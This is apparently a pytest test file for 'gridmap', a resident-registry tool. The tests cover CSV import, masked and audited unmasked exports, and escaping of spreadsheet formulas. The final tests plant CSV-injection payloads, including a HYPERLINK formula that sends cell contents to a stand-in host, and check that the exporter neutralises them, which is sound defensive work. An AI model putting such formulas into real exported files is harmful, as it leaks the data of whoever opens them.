"""`gridmap registry import` and `gridmap export` as a user runs them, on a fresh database:
residents imported from a file, then the county exported from the database and read back."""

import csv
import re

import pandas as pd
import pyogrio
import pytest
import shapely
from sqlalchemy import text
from typer.testing import CliRunner

from gridmap.cli import app
from gridmap.db.session import make_engine
from tests.registry.conftest import id_number

runner = CliRunner()
FULL_ID = re.compile(r"\b\d{17}[\dX]\b")


@pytest.fixture
def env(fresh, tmp_path, monkeypatch):
    url, data = fresh
    monkeypatch.setenv("GRIDMAP_DATABASE_URL", url)
    monkeypatch.setenv("GRIDMAP_DATA_DIR", str(tmp_path / "data"))
    return url, data


def scalar(url, sql, **params):
    engine = make_engine(url)
    with engine.connect() as conn:
        value = conn.execute(text(sql), params).scalar()
    engine.dispose()
    return value


def test_import_then_export_the_county_and_read_it_back(env, tmp_path):
    url, data = env
    cells = data.areas[data.areas.level == "grid"]
    cell = cells.iloc[0]
    point = shapely.point_on_surface(cell.geometry)
    county = cell.code[:6]
    source = tmp_path / "residents.csv"
    ids = [id_number(901, "19620315", county), id_number(902, "19650720", county)]
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["户号", "姓名", "身份证号", "与户主关系", "联系电话", "经度", "纬度"])
        writer.writerow(["X1", "蔡文山", ids[0], "户主", "13912345678", point.x, point.y])
        writer.writerow(["X1", "蔡淑华", ids[1], "妻", "", "", ""])
        writer.writerow(["X2", "界外人", id_number(903), "户主", "", 121.0, 31.0])
    report = tmp_path / "refused.csv"
    result = runner.invoke(app, ["registry", "import", str(source), "--report", str(report)])
    assert result.exit_code == 0, result.output
    assert "3 rows: 1 households (2 people) loaded, 1 refused" in result.output
    assert "1 rows refused" in result.output  # the table (gridmap/cli/common.py)
    refused = pd.read_csv(report)
    assert list(refused["row"]) == [3] and "outside the jurisdiction" in refused["reason"][0]
    assert scalar(url, "SELECT grid_code FROM person WHERE id_number = :i", i=ids[0]) == cell.code

    engine = make_engine(url)
    with engine.begin() as conn:  # a phone typed into a unit's address (an ordinary edit)
        unit_id = conn.execute(text(
            "UPDATE work_unit SET address = '东街2号 店主 138-0595-6789' WHERE id = "
            "(SELECT min(id) FROM work_unit WHERE grid_code LIKE :p) RETURNING id"
        ), {"p": county + "%"}).scalar()  # fmt: skip
    engine.dispose()
    out = tmp_path / "export"
    result = runner.invoke(app, ["export", county, str(out)])
    assert result.exit_code == 0, result.output
    gpkg = out / f"gridmap-{county}.gpkg"
    layers = {name for name, _ in pyogrio.list_layers(gpkg)}
    assert layers == {"cells", "buildings", "houses", "households", "people", "work_units"}
    people = pyogrio.read_dataframe(gpkg, layer="people")
    stored = scalar(url, "SELECT count(*) FROM person WHERE grid_code LIKE :p", p=county + "%")
    assert len(people) == stored > 2
    assert not people["id_number"].astype(str).str.fullmatch(FULL_ID.pattern).any()
    mine = people[people["id"] == scalar(url, "SELECT id FROM person WHERE id_number = :i",
                                         i=ids[0])].iloc[0]  # fmt: skip
    assert mine["name"] == "蔡*山" and mine["id_number"] == ids[0][:6] + "********" + ids[0][-4:]
    assert mine["phone"] == "139****5678" and mine["grid_code"] == cell.code
    households = pyogrio.read_dataframe(gpkg, layer="households")
    assert len(households) == scalar(
        url, "SELECT count(*) FROM household WHERE grid_code LIKE :p", p=county + "%"
    )
    assert households.geometry.within(shapely.box(117, 24, 120, 26)).all()
    exported_cells = pyogrio.read_dataframe(gpkg, layer="cells")
    assert set(exported_cells["code"]) == set(cells.code[cells.code.str.startswith(county)])
    units = pyogrio.read_dataframe(gpkg, layer="work_units")
    assert units.set_index("id").loc[unit_id, "address"] == "东街2号 店主 138****6789"
    assert audit_rows(url) == 0  # a masked export is not a read of personal data


def audit_rows(url):
    return scalar(url, "SELECT count(*) FROM audit_log WHERE action = 'export_unmasked'")


def test_export_a_cell_as_csv_unmasked_with_a_reason_is_audited(env, tmp_path):
    url, data = env
    cell = data.areas[data.areas.level == "grid"].code.iloc[1]
    township = cell[:9]
    for name, role, area in [
        ("exp-lin", "township_dispatcher", township),
        ("exp-plan", "planner", township),
        ("exp-far", "township_dispatcher", other_township(data, cell)),
    ]:
        made = runner.invoke(app, ["user", "create", name, "--role", role, "--area", area,
                                   "--password", "Quanzhou-2025"])  # fmt: skip
        assert made.exit_code == 0, made.output
    refused = runner.invoke(
        app, ["export", cell, str(tmp_path), "--unmask", "x", "--by", "exp-lin"]
    )
    assert refused.exit_code == 1 and "reason" in refused.output
    # issue 31 (low): the unmasked export's audit row had no actor — now it names one
    nobody = runner.invoke(app, ["export", cell, str(tmp_path), "--unmask", "入户核查名单"])
    assert nobody.exit_code == 1 and "--by USER" in nobody.output
    for who, why in [("exp-plan", "does not read"), ("exp-far", "outside your area"),
                     ("exp-none", "no enabled user")]:  # fmt: skip
        r = runner.invoke(app, ["export", cell, str(tmp_path), "--unmask", "入户核查名单",
                                "--by", who])  # fmt: skip
        assert r.exit_code == 1 and why in r.output, r.output
    assert audit_rows(url) == 0 and not (tmp_path / f"{cell}-people.csv").exists()
    result = runner.invoke(app, ["export", cell, str(tmp_path), "--format", "csv",
                                 "--unmask", "入户核查名单", "--by", "exp-lin"])  # fmt: skip
    assert result.exit_code == 0, result.output
    people = pd.read_csv(tmp_path / f"{cell}-people.csv", dtype=str)
    assert len(people) == scalar(url, "SELECT count(*) FROM person WHERE grid_code = :c", c=cell)
    assert people["id_number"].str.fullmatch(FULL_ID.pattern).all()
    buildings = pd.read_csv(tmp_path / f"{cell}-buildings.csv")
    assert {"lon", "lat"} <= set(buildings.columns)
    assert audit_rows(url) == 1
    who, detail = scalar_row(
        url, "SELECT u.username, a.detail FROM audit_log a JOIN app_user u ON u.id = a.user_id "
        "WHERE a.action = 'export_unmasked'")  # fmt: skip
    assert who == "exp-lin" and detail["os_user"] and detail["rows"]["people"] == len(people)


def other_township(data, cell):
    townships = data.areas[data.areas.level == "township"].code
    return next(t for t in townships if t != cell[:9])


def scalar_row(url, sql):
    engine = make_engine(url)
    with engine.connect() as conn:
        row = conn.execute(text(sql)).one()
    engine.dispose()
    return row


def test_export_of_an_unknown_area_and_format(env, tmp_path):
    result = runner.invoke(app, ["export", "350599", str(tmp_path)])
    assert result.exit_code == 1 and "no area 350599" in result.output
    result = runner.invoke(app, ["export", "350503", str(tmp_path), "--format", "shp"])
    assert result.exit_code == 1 and "gpkg or csv" in result.output


def test_import_strict_loads_nothing_and_fails(env, tmp_path):
    url, _ = env
    source = tmp_path / "r.csv"
    source.write_text(
        f"姓名,身份证号,经度,纬度\n甲,{id_number(950)},121.0,31.0\n", encoding="utf-8"
    )
    before = scalar(url, "SELECT count(*) FROM person")
    result = runner.invoke(app, ["registry", "import", str(source), "--strict"])
    assert result.exit_code == 1 and "nothing loaded" in result.output
    assert scalar(url, "SELECT count(*) FROM person") == before


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(*paths):
    return [(p.name, v) for p in paths for row in csv.reader(p.open(encoding="utf-8")) for v in row]


def test_the_import_report_never_starts_a_formula(env, tmp_path):
    """CSV injection: a cell typed as =HYPERLINK(…) or @SUM(…) runs in the spreadsheet of
    whoever opens the file; every CSV gridmap writes prefixes such a cell with ' (OWASP)."""
    _, data = env
    county = data.areas[data.areas.level == "grid"].iloc[1].code[:6]
    source = tmp_path / "residents.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["户号", "姓名", "身份证号", "与户主关系", "经度", "纬度"])
        writer.writerow(["@SUM(1+1)", "=1+2", id_number(912, "19700101", county), "户主", 121.0,
                         31.0])  # outside the jurisdiction: refused, in the report  # fmt: skip
    report = tmp_path / "refused.csv"
    result = runner.invoke(app, ["registry", "import", str(source), "--report", str(report)])
    assert result.exit_code == 0, result.output
    cells = _cells(report)
    assert not [c for c in cells if c[1].startswith(TRIGGERS)]
    assert ("refused.csv", "'@SUM(1+1)") in cells


def test_the_registry_export_never_starts_a_formula(session, registry, tmp_path):
    from gridmap.registry.export import export_area
    from tests.registry.conftest import CELL

    registry.people["林芳"].name = '=HYPERLINK("http://x.example/?"&A1,"查看")'
    registry.unit.name = "@SUM(A1:A9)"
    registry.buildings["a"].address = "+86-595-1234"
    session.flush()
    export_area(session, CELL, tmp_path, "csv")  # masked, as by default
    cells = _cells(*sorted(tmp_path.glob("*.csv")))
    assert not [c for c in cells if c[1].startswith(TRIGGERS)]
    people = [v for name, v in cells if name.endswith("people.csv")]
    assert any(v.startswith("'=") for v in people)
    assert any(v.startswith("'@") for name, v in cells if name.endswith("work_units.csv"))
